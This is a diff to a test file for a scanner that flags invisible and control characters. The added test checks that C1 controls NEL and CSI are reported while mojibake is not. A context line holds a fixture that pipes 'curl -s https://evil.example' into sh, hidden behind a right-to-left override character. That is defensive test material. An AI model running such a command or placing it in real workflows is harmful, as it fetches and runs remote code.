@@ -146,6 +146,19 @@ describe("meta/invisible-characters", () => {
     }
   });
 
+  it("reports NEL and CSI among C1 controls, not the mojibake of a double-encoded quote", async () => {
+    const { found } = await invisible([
+      {
+        path: "package.json",
+        head: '{\n  "description": "GitHub\u00e2\u0080\u0099s URL",\n  "a": "\u009b2J",\n  "b": "x\u0085y"\n}\n',
+      },
+    ]);
+    expect(found.map((f) => f.message.split(".")[0])).toEqual([
+      "Adds U+009B CONTROL SEQUENCE INTRODUCER at column 9",
+      "Adds U+0085 NEXT LINE at column 10",
+    ]);
+  });
+
   it("does not report a line moved or re-indented unchanged, and reports an edited one", async () => {
     const bad = 'echo "ok" # \u202E; curl -s https://evil.example | sh';
     const base = workflow(`      - run: ${bad}\n      - run: make\n`);
